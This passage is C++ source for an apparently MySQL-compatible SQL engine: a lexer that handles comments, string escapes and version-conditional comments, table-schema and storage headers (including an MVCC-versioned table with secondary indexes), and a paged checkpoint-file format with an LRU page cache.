  end.type = TokenType::kEnd;
  end.pos = n;
  out.tokens.push_back(end);
  return out;
}

}  // namespace septic::sql

#include "sqlcore/lexer.h"

#include <array>
#include <cctype>
#include <unordered_set>

#include "common/string_util.h"

namespace septic::sql {

namespace {

const std::unordered_set<std::string>& keyword_set() {
  static const std::unordered_set<std::string> kw = {
      "SELECT", "FROM",   "WHERE",   "AND",    "OR",     "NOT",    "INSERT",
      "INTO",   "VALUES", "UPDATE",  "SET",    "DELETE", "CREATE", "TABLE",
      "DROP",   "IF",     "EXISTS",  "NULL",   "LIKE",   "IN",     "BETWEEN",
      "IS",     "ORDER",  "BY",      "ASC",    "DESC",   "LIMIT",  "OFFSET",
      "GROUP",  "HAVING", "JOIN",    "INNER",  "LEFT",   "ON",     "AS",
      "UNION",  "ALL",    "DISTINCT","PRIMARY","KEY",    "DEFAULT","INT",
      "INTEGER","BIGINT", "DOUBLE",  "FLOAT",  "TEXT",   "VARCHAR","CHAR",
      "TRUE",   "FALSE",  "AUTO_INCREMENT", "SHOW", "TABLES", "DESCRIBE", "TRUNCATE", "INDEX",
      "BEGIN", "START", "TRANSACTION", "COMMIT", "ROLLBACK", "EXPLAIN",
  };
  return kw;
}

bool is_ident_start(char c) {
  return std::isalpha(static_cast<unsigned char>(c)) || c == '_' ||
         static_cast<unsigned char>(c) >= 0x80;
}
bool is_ident_char(char c) {
  return is_ident_start(c) || std::isdigit(static_cast<unsigned char>(c)) ||
         c == '$';
}

}  // namespace

bool is_reserved_keyword(std::string_view upper_word) {
  return keyword_set().count(std::string(upper_word)) > 0;
}

LexResult lex(std::string_view sql) {
  LexResult out;
  size_t i = 0;
  const size_t n = sql.size();
  bool in_conditional_comment = false;  // inside /*! ... */

  auto push = [&](Token t) { out.tokens.push_back(std::move(t)); };

  while (i < n) {
    char c = sql[i];
    // Whitespace.
    if (c == ' ' || c == '\t' || c == '\r' || c == '\n' || c == '\f' ||
        c == '\v') {
      ++i;
      continue;
    }
    // Comments.
    if (c == '#') {
      size_t start = i + 1;
      size_t end = sql.find('\n', start);
      if (end == std::string_view::npos) end = n;
      out.comments.push_back(
          {Comment::Kind::kHash, std::string(sql.substr(start, end - start)), i});
      i = end;
      continue;
    }
    if (c == '-' && i + 1 < n && sql[i + 1] == '-' &&
        (i + 2 >= n || sql[i + 2] == ' ' || sql[i + 2] == '\t' ||
         sql[i + 2] == '\n' || sql[i + 2] == '\r')) {
      // MySQL requires whitespace (or end of statement) after "--".
      size_t start = i + 2;
      size_t end = sql.find('\n', start);
      if (end == std::string_view::npos) end = n;
      out.comments.push_back({Comment::Kind::kDashDash,
                              std::string(sql.substr(start, end - start)), i});
      i = end;
      continue;
    }
    if (c == '/' && i + 1 < n && sql[i + 1] == '*') {
      // MySQL version-conditional comment /*!50000 ... */: the body is
      // EXECUTED, not stripped — the classic mismatch WAFs fall for.
      if (i + 2 < n && sql[i + 2] == '!') {
        size_t j = i + 3;
        while (j < n && std::isdigit(static_cast<unsigned char>(sql[j]))) ++j;
        if (sql.find("*/", j) == std::string_view::npos) {
          throw LexError("unterminated /*! comment", i);
        }
        in_conditional_comment = true;
        i = j;
        continue;
      }
      size_t start = i + 2;
      size_t end = sql.find("*/", start);
      if (end == std::string_view::npos) {
        // MySQL treats an unterminated block comment as a syntax error.
        throw LexError("unterminated /* comment", i);
      }
      out.comments.push_back(
          {Comment::Kind::kBlock, std::string(sql.substr(start, end - start)), i});
      i = end + 2;
      continue;
    }
    if (c == '*' && i + 1 < n && sql[i + 1] == '/' && in_conditional_comment) {
      in_conditional_comment = false;
      i += 2;
      continue;
    }
    // String literals (' or "), with backslash escapes and doubled quotes.
    if (c == '\'' || c == '"') {
      char quote = c;
      std::string value;
      size_t start = i;
      ++i;
      bool closed = false;
      while (i < n) {
        char d = sql[i];
        if (d == '\\' && i + 1 < n) {
          char e = sql[i + 1];
          switch (e) {
            case 'n': value += '\n'; break;
            case 't': value += '\t'; break;
            case 'r': value += '\r'; break;
            case '0': value += '\0'; break;
            case 'b': value += '\b'; break;
            case 'Z': value += '\x1a'; break;
            case '\\': value += '\\'; break;
            case '\'': value += '\''; break;
            case '"': value += '"'; break;
            case '%': value += "\\%"; break;   // kept escaped for LIKE
            case '_': value += "\\_"; break;
            default: value += e; break;  // MySQL: unknown escape = literal char
          }
          i += 2;
          continue;
        }
        if (d == quote) {
          if (i + 1 < n && sql[i + 1] == quote) {  // doubled quote
            value += quote;
            i += 2;
            continue;
          }
          closed = true;
          ++i;
          break;
        }
        value += d;
        ++i;
      }
      if (!closed) throw LexError("unterminated string literal", start);
      Token t;
      t.type = TokenType::kString;
      t.text = std::string(sql.substr(start, i - start));
      t.str_value = std::move(value);
      t.pos = start;
      push(std::move(t));
      continue;
    }
    // Backtick-quoted identifier.
    if (c == '`') {
      size_t start = i;
      ++i;
      std::string name;
      bool closed = false;
      while (i < n) {
        if (sql[i] == '`') {
          if (i + 1 < n && sql[i + 1] == '`') {
            name += '`';
            i += 2;
            continue;
          }
          closed = true;
          ++i;
          break;
        }
        name += sql[i];
        ++i;
      }
      if (!closed) throw LexError("unterminated quoted identifier", start);
      Token t;
      t.type = TokenType::kIdentifier;
      t.text = std::move(name);
      t.pos = start;
      push(std::move(t));
      continue;
    }
    // Numbers (integer, decimal, 0x hex).
    if (std::isdigit(static_cast<unsigned char>(c)) ||
        (c == '.' && i + 1 < n &&
         std::isdigit(static_cast<unsigned char>(sql[i + 1])))) {
      size_t start = i;
      if (c == '0' && i + 1 < n && (sql[i + 1] == 'x' || sql[i + 1] == 'X')) {
        i += 2;
        size_t hex_start = i;
        while (i < n && std::isxdigit(static_cast<unsigned char>(sql[i]))) ++i;
        if (i == hex_start) throw LexError("malformed hex literal", start);
        Token t;
        t.type = TokenType::kInteger;
        t.text = std::string(sql.substr(start, i - start));
        t.int_value = static_cast<int64_t>(
            std::strtoull(std::string(sql.substr(hex_start, i - hex_start)).c_str(),
                          nullptr, 16));
        t.pos = start;
        push(std::move(t));
        continue;
      }
      bool has_dot = false;
      bool has_exp = false;
      while (i < n) {
        char d = sql[i];
        if (std::isdigit(static_cast<unsigned char>(d))) {
          ++i;
        } else if (d == '.' && !has_dot && !has_exp) {
          has_dot = true;
          ++i;
        } else if ((d == 'e' || d == 'E') && !has_exp && i + 1 < n &&
                   (std::isdigit(static_cast<unsigned char>(sql[i + 1])) ||
                    ((sql[i + 1] == '+' || sql[i + 1] == '-') && i + 2 < n &&
                     std::isdigit(static_cast<unsigned char>(sql[i + 2]))))) {
          has_exp = true;
          ++i;
          if (sql[i] == '+' || sql[i] == '-') ++i;
        } else {
          break;
        }
      }
      std::string text(sql.substr(start, i - start));
      Token t;
      t.text = text;
      t.pos = start;
      if (has_dot || has_exp) {
        t.type = TokenType::kDecimal;
        t.dbl_value = std::strtod(text.c_str(), nullptr);
      } else {
        t.type = TokenType::kInteger;
        t.int_value = static_cast<int64_t>(std::strtoll(text.c_str(), nullptr, 10));
      }
      push(std::move(t));
      continue;
    }
    // Identifiers / keywords.
    if (is_ident_start(c)) {
      size_t start = i;
      while (i < n && is_ident_char(sql[i])) ++i;
      std::string word(sql.substr(start, i - start));
      std::string upper = common::to_upper(word);
      Token t;
      t.pos = start;
      if (is_reserved_keyword(upper)) {
        t.type = TokenType::kKeyword;
        t.text = std::move(upper);
      } else {
        t.type = TokenType::kIdentifier;
        t.text = std::move(word);
      }
      push(std::move(t));
      continue;
    }
    // Multi-char operators.
    auto try_op = [&](std::string_view op) -> bool {
      if (sql.substr(i, op.size()) == op) {
        Token t;
        t.type = TokenType::kOperator;
        t.text = std::string(op);
        t.pos = i;
        i += op.size();
        push(std::move(t));
        return true;
      }
      return false;
    };
    if (try_op("<=>") || try_op("<>") || try_op("!=") || try_op("<=") ||
        try_op(">=") || try_op("||") || try_op("&&")) {
      continue;
    }
    if (c == '=' || c == '<' || c == '>' || c == '+' || c == '-' ||
        c == '*' || c == '/' || c == '%' || c == '!') {
      Token t;
      t.type = TokenType::kOperator;
      t.text = std::string(1, c);
      t.pos = i;
      ++i;
      push(std::move(t));
      continue;
    }
    if (c == '?') {
      Token t;
      t.type = TokenType::kPlaceholder;
      t.text = "?";
      t.pos = i;
      ++i;
      push(std::move(t));
      continue;
    }
    if (c == '(' || c == ')' || c == ',' || c == ';' || c == '.') {
      Token t;
      t.type = TokenType::kPunct;
      t.text = std::string(1, c);
      t.pos = i;
      ++i;
      push(std::move(t));
      continue;
    }
    throw LexError("unexpected character '" + std::string(1, c) + "'", i);
  }

  Token end;
  end.type = TokenType::kEnd;
  end.pos = n;
  out.tokens.push_back(std::move(end));
  return out;
}

}  // namespace septic::sql

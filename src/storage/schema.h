// Table schemas: column definitions with storage types, primary key,
// auto-increment, and defaults.
#pragma once

#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "sqlcore/ast.h"
#include "sqlcore/value.h"

namespace septic::storage {

enum class ColumnType { kInt, kDouble, kText };

struct ColumnDef {
  std::string name;
  ColumnType type = ColumnType::kText;
  bool not_null = false;
  bool primary_key = false;
  bool auto_increment = false;
  std::optional<sql::Value> default_value;
};

class TableSchema {
 public:
  TableSchema() = default;
  TableSchema(std::string name, std::vector<ColumnDef> columns);

  /// Build from a parsed CREATE TABLE statement.
  static TableSchema from_ast(const sql::CreateTableStmt& stmt);

  const std::string& name() const { return name_; }
  const std::vector<ColumnDef>& columns() const { return columns_; }
  size_t column_count() const { return columns_.size(); }

  /// Index of a column by case-insensitive name; -1 when absent.
  int column_index(std::string_view col) const;
  const ColumnDef& column(size_t i) const { return columns_[i]; }

  /// Index of the primary key column; -1 when the table has none.
  int primary_key_index() const { return pk_index_; }

  /// Coerce a value into the column's storage type (MySQL-style silent
  /// coercion: strings into INT columns take their numeric prefix).
  sql::Value coerce_to_column(size_t col, const sql::Value& v) const;

 private:
  std::string name_;
  std::vector<ColumnDef> columns_;
  int pk_index_ = -1;
};

const char* column_type_name(ColumnType t);

}  // namespace septic::storage

// Heap table with an optional hash index on the primary key and
// auto-increment support. Rows are dense vectors of sql::Value.
#pragma once

#include <cstdint>
#include <functional>
#include <string>
#include <unordered_map>
#include <vector>

#include "sqlcore/value.h"
#include "storage/schema.h"

namespace septic::storage {

using Row = std::vector<sql::Value>;

/// Error type for storage-level constraint violations.
class StorageError : public std::runtime_error {
 public:
  explicit StorageError(std::string msg) : std::runtime_error(std::move(msg)) {}
};

class Table {
 public:
  explicit Table(TableSchema schema);

  const TableSchema& schema() const { return schema_; }
  size_t row_count() const { return live_count_; }

  /// Insert a full row (already column-ordered, unvalidated values are
  /// coerced to column types). Fills auto-increment when the PK value is
  /// NULL. Returns the row id (slot) and the value assigned to the PK (or
  /// NULL when no PK). Throws StorageError on duplicate PK / NOT NULL
  /// violation.
  struct InsertResult {
    size_t slot;
    sql::Value pk_value;
  };
  InsertResult insert(Row row);

  /// Visit every live row: fn(slot, row). Return false from fn to stop.
  void scan(const std::function<bool(size_t, const Row&)>& fn) const;

  /// Direct row access (slot must be live).
  const Row& row(size_t slot) const;

  /// Replace columns of a live row; PK updates re-index. Throws on
  /// constraint violation.
  void update(size_t slot, const std::vector<std::pair<size_t, sql::Value>>&
                               changes);

  /// Remove a live row.
  void erase(size_t slot);

  /// Fast lookup by primary key; returns -1 when absent / no PK.
  int64_t find_by_pk(const sql::Value& key) const;

  // ---- secondary indexes ------------------------------------------------

  /// Build (and maintain from then on) a hash index over one column.
  /// Throws StorageError for unknown columns or duplicate index names.
  void create_index(const std::string& index_name, const std::string& column);

  /// Drop by name; throws StorageError when unknown.
  void drop_index(const std::string& index_name);

  /// True when any index covers this column (the executor's access-path
  /// check).
  bool has_index_on(std::string_view column) const;

  /// Slots whose indexed column equals `key` (coerced to the column type).
  /// Must only be called when has_index_on(column) is true.
  std::vector<size_t> index_lookup(std::string_view column,
                                   const sql::Value& key) const;

  std::vector<std::string> index_names() const;

  /// (index name, column name) pairs, for snapshot persistence.
  std::vector<std::pair<std::string, std::string>> index_defs() const;

  int64_t next_auto_increment() const { return auto_inc_; }
  void set_auto_increment(int64_t v) { auto_inc_ = v; }

 private:
  struct SecondaryIndex {
    std::string name;
    size_t column = 0;
    std::unordered_multimap<std::string, size_t> map;  // value repr -> slot
  };

  std::string pk_key(const sql::Value& v) const;
  void check_not_null(const Row& row) const;
  void index_insert(size_t slot, const Row& row);
  void index_erase(size_t slot, const Row& row);

  TableSchema schema_;
  std::vector<Row> rows_;
  std::vector<bool> live_;
  size_t live_count_ = 0;
  std::unordered_map<std::string, size_t> pk_index_;
  std::vector<SecondaryIndex> indexes_;
  int64_t auto_inc_ = 1;
};

}  // namespace septic::storage

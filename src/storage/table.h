// Heap table with an optional hash index on the primary key, ordered
// (multimap) secondary indexes, and auto-increment support. Rows are
// dense vectors of sql::Value.
//
// Two access planes share the storage:
//
//   - The legacy plane (insert/scan/update/erase, no timestamps) behaves
//     exactly as before versioning existed: rows are born at timestamp 0
//     and erased rows leave no trace. It performs no locking; callers must
//     externally serialize (single-threaded setup code, snapshot load, and
//     the engine's DDL path, which holds the catalog's exclusive lock).
//
//   - The versioned plane (*_versioned / *_snapshot, explicit timestamps)
//     backs the MVCC engine. Each slot's current row carries a begin
//     timestamp; superseded or deleted images move into a per-slot chain of
//     old versions with [begin, end) validity. A reader at snapshot S sees
//     the image with begin <= S < end. These methods self-lock on an
//     internal shared_mutex, so any number of snapshot readers proceed in
//     parallel and writers exclude only the table they touch.
//
// The two planes may not run concurrently with each other — the engine
// guarantees that by running all legacy-plane mutations under its
// exclusive DDL lock.
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <map>
#include <optional>
#include <shared_mutex>
#include <string>
#include <unordered_map>
#include <vector>

#include "common/thread_annotations.h"
#include "sqlcore/value.h"
#include "storage/schema.h"

namespace septic::storage {

using Row = std::vector<sql::Value>;

/// Error type for storage-level constraint violations.
class StorageError : public std::runtime_error {
 public:
  explicit StorageError(std::string msg) : std::runtime_error(std::move(msg)) {}
};

class Table {
 public:
  explicit Table(TableSchema schema);

  const TableSchema& schema() const { return schema_; }
  size_t row_count() const {
    return live_count_.load(std::memory_order_relaxed);
  }

  /// Insert a full row (already column-ordered, unvalidated values are
  /// coerced to column types). Fills auto-increment when the PK value is
  /// NULL. Returns the row id (slot) and the value assigned to the PK (or
  /// NULL when no PK). Throws StorageError on duplicate PK / NOT NULL
  /// violation.
  struct InsertResult {
    size_t slot;
    sql::Value pk_value;
  };
  InsertResult insert(Row row);

  /// Visit every live row: fn(slot, row). Return false from fn to stop.
  void scan(const std::function<bool(size_t, const Row&)>& fn) const;

  /// Direct row access (slot must be live).
  const Row& row(size_t slot) const;

  /// Replace columns of a live row; PK updates re-index. Throws on
  /// constraint violation.
  void update(size_t slot, const std::vector<std::pair<size_t, sql::Value>>&
                               changes);

  /// Remove a live row.
  void erase(size_t slot);

  /// Fast lookup by primary key; returns -1 when absent / no PK.
  int64_t find_by_pk(const sql::Value& key) const;

  // ---- slot-preserving load (checkpoint/recovery; legacy plane) ---------

  /// Total slots ever allocated (live + holes). Checkpoints record this so
  /// replayed inserts land on the same slot numbers the log remembers.
  size_t slot_count() const { return rows_.size(); }

  /// Place an exact row image (post-coercion, as checkpointed) at `slot`,
  /// padding dead slots in between. Slots must arrive in increasing order.
  /// Maintains the PK index (a duplicate means checkpoint corruption →
  /// StorageError); does not touch the auto-increment counter — the
  /// loader restores the exact saved value afterward.
  void load_row_at_slot(size_t slot, Row row);

  /// Extend the slot space with trailing holes up to `slot_count` (erased
  /// tail rows whose numbering must survive a checkpoint round-trip).
  void pad_slots(size_t slot_count);

  // ---- versioned plane (MVCC; self-locking) -----------------------------

  /// Insert born at `begin_ts` (constraint checks as insert()).
  InsertResult insert_versioned(Row row, uint64_t begin_ts);

  /// Replace a live row at `ts`; the previous image joins the old-version
  /// chain with validity [old begin, ts).
  void update_versioned(size_t slot,
                        const std::vector<std::pair<size_t, sql::Value>>&
                            changes,
                        uint64_t ts);

  /// Delete a live row at `ts`; the final image joins the old-version
  /// chain so older snapshots keep reading it.
  void erase_versioned(size_t slot, uint64_t ts);

  /// Visit every row visible at snapshot `snapshot_ts`. Rows are handed to
  /// fn under the table's shared lock — copy what must outlive the call.
  void scan_snapshot(
      uint64_t snapshot_ts,
      const std::function<bool(size_t, const Row&)>& fn) const;

  /// The image of `slot` visible at `snapshot_ts`, if any (copy).
  std::optional<Row> fetch_snapshot(size_t slot, uint64_t snapshot_ts) const;

  /// Index-assisted equality lookup at a snapshot: (slot, row) pairs whose
  /// column equals `key`, correct at any snapshot. Secondary indexes are
  /// *covering*: they hold one entry per (key, slot) over the union of a
  /// slot's version chain, and each hit re-checks visibility plus the key
  /// against the visible image, so history never makes the answer stale.
  /// The primary-key hash still covers current images only, so a pure PK
  /// probe is answered iff `snapshot_ts` is at or past the newest
  /// old-version end timestamp ever recorded (past it every superseded
  /// image is invisible); an older snapshot gets nullopt and must fall
  /// back to scan_snapshot — unless a secondary index also covers the PK
  /// column, which then answers. `column` must be the PK or an indexed
  /// column.
  std::optional<std::vector<std::pair<size_t, Row>>> index_eq_snapshot(
      std::string_view column, const sql::Value& key,
      uint64_t snapshot_ts) const;

  /// Ordered, snapshot-correct walk of the secondary index on `column`
  /// (no-op when none exists). Emits (slot, visible row) in key order —
  /// reverse order when `desc` — for keys within [lo, hi] (either bound
  /// optional; inclusivity per flag; bounds are coerced to the column
  /// type, TEXT bounds case-folded like the stored keys). NULL keys sort
  /// first and are skipped unless `include_nulls` (SQL comparisons never
  /// match NULL; pure ORDER BY walks want them). Per hit the slot's
  /// visible image is re-checked to actually carry the entry's key, so
  /// chained (dead-at-S) entries are silently skipped. Rows are handed to
  /// fn under the table's shared lock — copy what must outlive the call.
  /// Return false from fn to stop.
  void index_range_snapshot(std::string_view column,
                            const std::optional<sql::Value>& lo,
                            bool lo_inclusive,
                            const std::optional<sql::Value>& hi,
                            bool hi_inclusive, bool desc, bool include_nulls,
                            uint64_t snapshot_ts,
                            const std::function<bool(size_t, const Row&)>& fn)
      const;

  /// Size statistics of the secondary index covering `column`, if any —
  /// the planner's selectivity input. `entries` counts (key, slot) pairs
  /// (≥ live rows when history is chained), `distinct_keys` distinct key
  /// values.
  struct IndexInfo {
    std::string name;
    size_t entries = 0;
    size_t distinct_keys = 0;
  };
  std::optional<IndexInfo> secondary_index_on(std::string_view column) const;

  /// True when any slot has old versions (racy hint; callers that care
  /// re-check under the lock).
  bool has_old_versions() const {
    return old_version_count_.load(std::memory_order_acquire) != 0;
  }

  /// Conflict-detection reads for the commit protocol (caller holds the
  /// engine's commit mutex, so current images are stable).
  bool slot_live(size_t slot) const;
  /// Begin timestamp of the slot's current image (slot must be live).
  uint64_t slot_begin_ts(size_t slot) const;

  /// Burn-on-use auto-increment reservation for buffered transaction
  /// inserts (ids are not returned on rollback, like MySQL).
  int64_t reserve_auto_increment();

  /// Keep the counter ahead of an explicitly supplied integer key, as
  /// insert() does internally; used when a transaction buffers a row with
  /// an explicit PK instead of inserting it right away.
  void maybe_advance_auto_increment(int64_t v);

  /// Drop old versions no snapshot can reach (end_ts <= horizon). Returns
  /// how many versions were freed.
  size_t vacuum(uint64_t horizon);

  // Commit-failure repair: each undoes the most recent versioned mutation
  // of `slot` (exact inverse, including index maintenance). Only the
  // commit protocol calls these, while holding the commit mutex.
  void undo_insert(size_t slot);
  void undo_update(size_t slot);
  void undo_erase(size_t slot);

  // ---- secondary indexes ------------------------------------------------

  /// Build (and maintain from then on) an ordered index over one column.
  /// The build covers current images *and* every chained old version, so
  /// the covering invariant holds immediately — a transaction holding an
  /// older snapshot reads correctly through an index created after its
  /// snapshot. Throws StorageError for unknown columns or duplicate index
  /// names.
  void create_index(const std::string& index_name, const std::string& column);

  /// Drop by name; throws StorageError when unknown.
  void drop_index(const std::string& index_name);

  /// True when any index covers this column (the executor's access-path
  /// check).
  bool has_index_on(std::string_view column) const;

  /// Slots whose indexed column equals `key` (coerced to the column type).
  /// Must only be called when has_index_on(column) is true.
  std::vector<size_t> index_lookup(std::string_view column,
                                   const sql::Value& key) const;

  std::vector<std::string> index_names() const;

  /// (index name, column name) pairs, for snapshot persistence.
  std::vector<std::pair<std::string, std::string>> index_defs() const;

  int64_t next_auto_increment() const { return auto_inc_; }
  void set_auto_increment(int64_t v) { auto_inc_ = v; }

 private:
  /// Strict weak order over index keys: NULL sorts before everything,
  /// then sql::Value comparison order. TEXT keys are stored pre-folded to
  /// lowercase (see index_key_value), so two strings compare by raw bytes
  /// — consistent with the case-folded comparison eval uses.
  struct IndexKeyLess {
    bool operator()(const sql::Value& a, const sql::Value& b) const;
  };

  struct SecondaryIndex {
    std::string name;
    size_t column = 0;
    /// Ordered entries, unique per (key, slot): `slot` appears under every
    /// key that *some* version of it (current image or old-version chain)
    /// carries in the indexed column. That union makes the index covering
    /// for any snapshot; readers re-check visibility and key per hit.
    std::multimap<sql::Value, size_t, IndexKeyLess> map;
    /// Distinct key values currently in `map` (planner selectivity stat).
    size_t distinct_keys = 0;
  };

  /// A superseded or deleted row image, visible to snapshots in
  /// [begin_ts, end_ts).
  struct OldVersion {
    Row row;
    uint64_t begin_ts = 0;
    uint64_t end_ts = 0;
  };

  std::string pk_key(const sql::Value& v) const;
  void check_not_null(const Row& row) const;
  /// The stored index key for `v` in `column`: TEXT values case-folded to
  /// lowercase, everything else as-is (values are already column-coerced).
  sql::Value index_key_value(size_t column, const sql::Value& v) const;
  static bool index_key_eq(const sql::Value& a, const sql::Value& b);
  /// Add/remove one (key, slot) entry. add is idempotent (no-op when the
  /// pair exists); remove tolerates a missing pair. Both keep
  /// distinct_keys exact.
  static void index_add_entry(SecondaryIndex& idx, const sql::Value& key,
                              size_t slot);
  static void index_remove_entry(SecondaryIndex& idx, const sql::Value& key,
                                 size_t slot);
  /// True when any version of `slot` (current image or chain) still
  /// carries `key` in `column` — the "may I drop this entry?" check.
  bool slot_refs_key_locked(size_t slot, size_t column,
                            const sql::Value& key) const;
  void index_insert(size_t slot, const Row& row);
  /// Remove `slot`'s entries for the keys of `row`, except those some
  /// surviving version still references.
  void index_erase_unreferenced(size_t slot, const Row& row);
  InsertResult insert_locked(Row row, uint64_t begin_ts);
  void update_locked(size_t slot,
                     const std::vector<std::pair<size_t, sql::Value>>& changes,
                     bool record_old, uint64_t ts);
  /// Image of `slot` visible at snapshot, or nullptr. Caller holds mu_.
  const Row* visible_locked(size_t slot, uint64_t snapshot_ts) const;

  TableSchema schema_;
  std::vector<Row> rows_;
  std::vector<bool> live_;
  std::vector<uint64_t> begin_ts_;  // parallel to rows_; current image birth
  std::atomic<size_t> live_count_{0};
  std::unordered_map<std::string, size_t> pk_index_;
  std::vector<SecondaryIndex> indexes_;
  /// slot -> old images, oldest first (append order = commit order).
  std::unordered_map<size_t, std::vector<OldVersion>> old_versions_;
  std::atomic<size_t> old_version_count_{0};
  /// High-water mark of old-version end timestamps (monotone; vacuum never
  /// lowers it — stale-high is merely conservative). Snapshots at or past
  /// it see no old version, so indexes answer for them even with history
  /// present. Guarded by mu_.
  uint64_t max_old_end_ts_ SEPTIC_GUARDED_BY(mu_) = 0;
  int64_t auto_inc_ = 1;
  /// Guards rows_/live_/begin_ts_/indexes' maps/old_versions_/auto_inc_ on
  /// the versioned plane. The legacy plane bypasses it (see file comment).
  mutable std::shared_mutex mu_;
};

}  // namespace septic::storage

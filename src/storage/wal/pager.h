// Paged checkpoint-file format and the page cache that fronts it.
//
// A checkpoint (`tables.pg`) is the serialized catalog cut into fixed
// 4096-byte pages:
//
//   page 0           "SEPTICPG 1 <page_count> <content_len> <checkpoint_lsn>
//                     <ddl_version> <crc_hex>\n" + zero padding
//   pages 1..N       [u32 crc][payload <= 4092 bytes], zero padded
//
// The header CRC covers the five numeric fields; each content page carries
// a CRC over its used payload, so a torn checkpoint write is detected at
// the page where the tear happened instead of poisoning the whole load.
// checkpoint_lsn is the replay watermark: every WAL record with
// lsn <= checkpoint_lsn is already folded into this file, so recovery
// skips it (the crash window between checkpoint rename and WAL rotation
// would otherwise double-apply the log).
//
// Reads go through a small LRU PageCache so repeated loads (boot retries,
// wal_inspect, per-table re-reads) touch the disk once per page. The
// cache is per-file and invalidated wholesale when a new checkpoint is
// renamed into place — page numbers are not stable across rewrites.
#pragma once

#include <cstdint>
#include <list>
#include <string>
#include <string_view>
#include <unordered_map>

namespace septic::storage::wal {

inline constexpr size_t kPageSize = 4096;
/// Bytes of content a non-header page carries (rest is its CRC).
inline constexpr size_t kPagePayload = kPageSize - 4;

struct PageCacheStats {
  uint64_t hits = 0;
  uint64_t misses = 0;
  uint64_t evictions = 0;
  size_t pages = 0;
  size_t capacity = 0;
};

/// LRU cache of verified page payloads, keyed by page number. Not
/// thread-safe: the owner (DurableStorage) serializes checkpoint I/O.
class PageCache {
 public:
  explicit PageCache(size_t capacity_pages);

  /// Cached payload of `page_no`, or nullptr (counts a hit/miss).
  const std::string* get(uint64_t page_no);
  void put(uint64_t page_no, std::string payload);
  void clear();
  PageCacheStats stats() const;

 private:
  size_t capacity_;
  /// Front = most recently used.
  std::list<std::pair<uint64_t, std::string>> lru_;
  std::unordered_map<uint64_t, std::list<std::pair<uint64_t, std::string>>::
                                   iterator>
      map_;
  uint64_t hits_ = 0;
  uint64_t misses_ = 0;
  uint64_t evictions_ = 0;
};

struct CheckpointMeta {
  uint64_t page_count = 0;    // content pages, excluding the header page
  uint64_t content_len = 0;   // exact byte length of the catalog text
  uint64_t checkpoint_lsn = 0;  // replay watermark (0 = nothing logged yet)
  uint64_t ddl_version = 0;
};

/// Cut `content` into pages and return the complete file image
/// (header page + CRC'd content pages).
std::string encode_paged(std::string_view content, uint64_t checkpoint_lsn,
                         uint64_t ddl_version);

/// Read-side view of a paged file. Construction parses and verifies the
/// header page; page payloads are verified lazily on read. Throws
/// WalError on I/O failure or corruption.
class PagedFile {
 public:
  /// `cache` may be nullptr (uncached reads, e.g. wal_inspect one-shots).
  PagedFile(std::string path, PageCache* cache);
  ~PagedFile();

  PagedFile(const PagedFile&) = delete;
  PagedFile& operator=(const PagedFile&) = delete;

  const CheckpointMeta& meta() const { return meta_; }

  /// Verified payload of content page `page_no` (1-based), trimmed to the
  /// bytes actually used by the content.
  std::string read_page(uint64_t page_no);

  /// The whole catalog text, page by page through the cache.
  std::string read_all();

 private:
  std::string path_;
  int fd_ = -1;
  PageCache* cache_;
  CheckpointMeta meta_;
};

}  // namespace septic::storage::wal
